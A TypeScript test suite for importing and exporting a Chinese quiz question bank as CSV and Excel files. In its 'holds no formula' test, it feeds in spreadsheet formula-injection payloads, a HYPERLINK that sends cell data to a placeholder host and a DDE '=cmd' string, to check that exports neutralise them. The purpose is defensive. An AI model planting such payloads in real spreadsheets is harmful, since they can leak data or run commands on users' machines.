import fc from 'fast-check'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it, test } from 'vitest'
import { optionLetters, type Question, question } from '#contract/participation/bank.ts'
import { readTable, writeCsvTable, writeTable } from '#kernel/files/index.ts'
import { bankTable, bankTemplate, checkBank, readBankTable } from '../index.ts'
import { aBank, aQuestion } from '../testing/drafts.ts'
import { printAnswer, readAnswer } from './answer.ts'
import { columnOf, columnsFor, headOf } from './columns.ts'

const head = ['编号', '题干', '选项A', '选项B', '选项C', '选项D', '正确答案', '解析', '依据', '条款', '主题', '难度']
const line = (code: string, parts: Partial<Record<string, string>> = {}) => {
  const whole: Record<string, string> = {
    编号: code,
    题干: `${code}问什么？`,
    选项A: '甲项',
    选项B: '乙项',
    选项C: '丙项',
    选项D: '丁项',
    正确答案: 'B',
    解析: '因为如此。',
    依据: '某法',
    条款: '第一条',
    主题: '综合',
    难度: '1',
    ...parts,
  }
  return head.map(name => whole[name] ?? '')
}
const csv = (...rows: string[][]) => writeCsvTable(rows)
const read = (bytes: Uint8Array, name = '题库.csv') => readBankTable(bytes, name)
const told = ({ report }: Awaited<ReturnType<typeof read>>) =>
  report.findings.map(({ severity, row, code }) => [severity, row, code.replace('participation.bank-', '')])

describe('an answer', () => {
  const options = ['甲项', '乙项', '丙项', '丁项']
  test.each([
    ['B', 'B'],
    ['b', 'B'],
    ['Ｂ', 'B'],
    ['（B）', 'B'],
    ['B.', 'B'],
    ['B、', 'B'],
    ['2', 'B'],
    ['２', 'B'],
    ['②', 'B'],
    ['⑵', 'B'],
    ['Ⓑ', 'B'],
    ['乙', 'B'],
    ['二', 'B'],
    ['选项B', 'B'],
    ['B项', 'B'],
    ['第二个', 'B'],
    ['乙项', 'B'],
    ['乙项。', 'B'],
    ['B. 乙项', 'B'],
    ['B乙项', 'B'],
  ])('written %s is option %s', (cell, letter) => {
    expect(readAnswer(cell, options)).toEqual({ letter })
  })

  test.each(['', 'E', '5', 'AB', 'A、B', 'B. 丙项', '乙', 'x'])('written %s is none of two options', cell => {
    expect(readAnswer(cell, ['一种', '另一种'])).toEqual(cell === '乙' ? { letter: 'B' } : null)
  })

  it('that is a place and the words of another option is told as both', () => {
    expect(readAnswer('2', ['2', '3'])).toEqual({ letter: 'B', other: 'A' })
    expect(readAnswer('2', ['1', '2'])).toEqual({ letter: 'B' })
    expect(readAnswer('-1', ['1', '-1'])).toEqual({ letter: 'B' })
  })

  it('is printed so that it is read again, whatever the options are called', () => {
    const text = fc.string({
      unit: fc.constantFrom('A', 'b', '1', '2', '甲', '乙', '选', '项', '.', '-'),
      minLength: 1,
      maxLength: 3,
    })
    fc.assert(
      fc.property(fc.uniqueArray(text, { minLength: 2, maxLength: 6 }), fc.nat(5), (given, at) => {
        const letter = optionLetters[at % given.length] ?? 'A'
        fc.pre(checkBank([{ ...aQuestion({ answer: letter }), options: given }]).errors === 0)
        expect(readAnswer(printAnswer(letter, given), given)).toMatchObject({ letter })
      }),
    )
  })
})

describe('a head', () => {
  test.each([
    ['题目', 'stem'],
    [' 题 干 ', 'stem'],
    ['选项Ａ', 'A'],
    ['选项一', 'A'],
    ['选项2', 'B'],
    ['C', 'C'],
    ['Option D', 'D'],
    ['答案', 'answer'],
    ['【正确答案】', 'answer'],
    ['答案解析', 'explanation'],
    ['来源', 'source'],
    ['难易度', 'difficulty'],
  ])('%s is the column %s', (text, column) => {
    expect(columnOf(text)).toBe(column)
  })

  it('that an export writes is known, and no other', () => {
    expect(columnsFor(6).map(column => columnOf(headOf(column)))).toEqual(columnsFor(6))
    expect(columnOf('备注')).toBeUndefined()
  })
})

describe('a table of questions', () => {
  it('is read whatever stands above its head and on other sheets', async () => {
    const rows = [
      ['医保题库'],
      ['2025年整理'],
      head,
      line('YB-001'),
      [' '],
      line('YB-002', { 正确答案: '丁项', 难度: '难' }),
    ]
    const bytes = await writeTable([
      { name: '封面', rows: [['说明']] },
      { name: '题', rows },
    ])
    const { report, questions } = await read(bytes, '题库.xlsx')
    expect(report).toEqual({ questions: 2, errors: 0, warnings: 0, findings: [] })
    expect(questions?.map(({ code, answer, difficulty }) => [code, answer, difficulty])).toEqual([
      ['YB-001', 'B', 1],
      ['YB-002', 'D', 3],
    ])
  })

  it('without numbers, topics and difficulties is given them', async () => {
    const bare = ['题目', 'A', 'B', '答案', '解析', '来源']
    const { questions } = await read(csv(bare, ['对不对？', '对', '错', '错', '因为。', '某法']))
    expect(questions).toEqual([
      {
        code: 'TK-001',
        stem: '对不对？',
        options: ['对', '错'],
        answer: 'B',
        explanation: '因为。',
        source: { title: '某法', where: null, link: null },
        topic: '综合',
        difficulty: 2,
      },
    ])
  })

  it('with errors is told whole, row by row, and gives no question', async () => {
    const found = await read(
      csv(
        [...head, '备注'],
        line('YB-001'),
        line('YB-002', { 正确答案: '' }),
        line('YB-003', { 正确答案: '1', 选项B: '1' }),
        [...line('YB-004'), '', '多出来的一格'],
        line('YB-001', { 题干: 'YB－001，问什么', 难度: '五星', 选项C: '', 主题: '' }),
      ),
    )
    expect(found.questions).toBeNull()
    expect(told(found)).toEqual([
      ['warning', null, 'column-unknown'],
      ['error', 3, 'field-empty'],
      ['error', 4, 'answer-unclear'],
      ['error', 5, 'row-too-wide'],
      ['error', 6, 'option-gap'],
      ['error', 6, 'field-empty'],
      ['error', 6, 'difficulty-unfit'],
      ['error', 6, 'code-twice'],
      ['error', 6, 'stem-twice'],
    ])
    expect(found.report.findings.find(({ code }) => code.endsWith('difficulty-unfit'))?.params.value).toBe('五星')
  })

  it('with a column missing or twice is told so', async () => {
    const found = await read(csv([...head.filter(name => name !== '解析'), '题目'], line('YB-001')))
    expect(told(found)).toContainEqual(['error', null, 'column-missing'])
    expect(told(found)).toContainEqual(['error', null, 'column-twice'])
    expect(found.questions).toBeNull()
  })

  it('with a head and nothing else is an empty bank', async () => {
    expect(told(await read(csv(head)))).toEqual([['error', null, 'empty']])
  })

  test.each([
    ['no head', csv(['姓名', '电话'], ['某', '1']), '名单.csv', 'participation.bank-no-head'],
    ['no byte', new Uint8Array(), '题库.csv', 'files.empty'],
    ['another kind', new TextEncoder().encode('题干'), '题库.txt', 'files.not-a-table'],
    ['a picture', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), '题库.xlsx', 'files.unknown-type'],
  ])('that is a file with %s is refused', async (_, bytes, name, code) => {
    await expect(read(bytes, name)).rejects.toMatchObject({ code })
  })

  it('that is a workbook cut short anywhere is refused', async () => {
    const whole = await bankTable(aBank(20))
    for (const part of [0.02, 0.3, 0.7, 0.999]) {
      const bytes = whole.slice(0, Math.floor(whole.length * part))
      await expect(read(bytes, '题库.xlsx')).rejects.toMatchObject({ code: expect.stringMatching(/^files\./) })
    }
  })
})

describe('an export', () => {
  it('is read back to the same questions', async () => {
    const { questions } = aBank(40)
    expect((await read(await bankTable({ questions }), '题库.xlsx')).questions).toEqual(questions)
  })

  it('of questions of any text is read back to the same questions', async () => {
    const text = (maxLength: number) =>
      fc.oneof(
        fc.string({ unit: 'grapheme', minLength: 1, maxLength }),
        fc.string({
          unit: fc.constantFrom('=', '+', '-', '@', "'", '"', ',', '＝', '<', '&', '甲', '1', '_x0041_'),
          minLength: 1,
          maxLength: 6,
        }),
      )
    const bank = fc
      .array(
        fc.record({
          stem: text(40),
          options: fc.uniqueArray(text(20), { minLength: 2, maxLength: 6 }),
          at: fc.nat(5),
          explanation: text(60),
          title: text(20),
          where: fc.option(text(10)),
          topic: text(8),
          difficulty: fc.constantFrom(1 as const, 2 as const, 3 as const),
        }),
        { minLength: 20, maxLength: 60 },
      )
      .map(drawn =>
        drawn.map(({ at, title, where, ...rest }, index) => ({
          ...rest,
          code: `ZZ-${String(index + 1).padStart(3, '0')}`,
          answer: optionLetters[at % rest.options.length] ?? 'A',
          source: { title, where, link: at === 0 ? 'https://example.org/?a=1&b=%E7%94%B2' : null },
        })),
      )
    let sound = 0
    await fc.assert(
      fc.asyncProperty(bank, async drafts => {
        const each: Question[] = drafts.flatMap(draft => {
          const parsed = question.safeParse(draft)
          return parsed.success && checkBank([parsed.data]).errors === 0 ? [parsed.data] : []
        })
        const questions = each.filter((one, index) => checkBank([...each.slice(0, index), one]).errors === 0)
        fc.pre(questions.length > 0 && checkBank(questions).errors === 0)
        sound += questions.length
        const again = await read(await bankTable({ questions }), '题库.xlsx')
        expect(again.report.errors).toBe(0)
        expect(again.questions).toEqual(questions)
      }),
      { numRuns: 8, seed: 20250620 },
    )
    expect(sound).toBeGreaterThan(100)
  })

  it('holds no formula: what looks like one is text behind a quote', async () => {
    const formula = '=HYPERLINK("http://x/?"&A1,"点击")'
    const questions = [
      aQuestion({ stem: formula, options: ['@SUM(A1)', '+1', '-1', '＝1'], explanation: "=cmd|'/c calc'!A0" }),
    ]
    const bytes = await bankTable({ questions })
    const files = Object.entries(unzipSync(bytes)).map(([name, content]) => [name, strFromU8(content)] as const)
    const sheet = files.find(([name]) => name === 'xl/worksheets/sheet1.xml')?.[1] ?? ''
    expect(sheet).toContain('<row')
    expect(sheet).not.toMatch(/<f[ >]/)
    const texts = files.map(([, content]) => content).join('\n')
    for (const start of ['=HYPERLINK', '@SUM', '+1', '-1', '＝1', '=cmd'])
      expect(texts).toMatch(new RegExp(`>(?:'|&apos;)${start.replace('+', '\\+')}`))
    expect((await read(bytes, '题库.xlsx')).questions).toEqual(questions)
  })
})

describe('the template', () => {
  it('offers letters and difficulties, and its example is not imported', async () => {
    const bytes = await bankTemplate()
    const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
    expect(sheet).toContain('<formula1>"A,B,C,D"</formula1>')
    expect(sheet).toContain('<formula1>"1,2,3"</formula1>')
    expect(told(await read(bytes, '模板.xlsx'))).toEqual([['error', null, 'empty']])
  })

  it('filled in is a bank', async () => {
    const { sheets } = await readTable(await bankTemplate(), '模板.xlsx')
    const [own = [], example = []] = sheets[0]?.rows ?? []
    const filled = own.map(name => line('YB-001')[head.indexOf(name)] ?? '')
    const { questions } = await read(await writeTable([{ name: '题库', rows: [own, example, filled] }]), '题库.xlsx')
    expect(questions?.map(({ code }) => code)).toEqual(['YB-001'])
  })
})
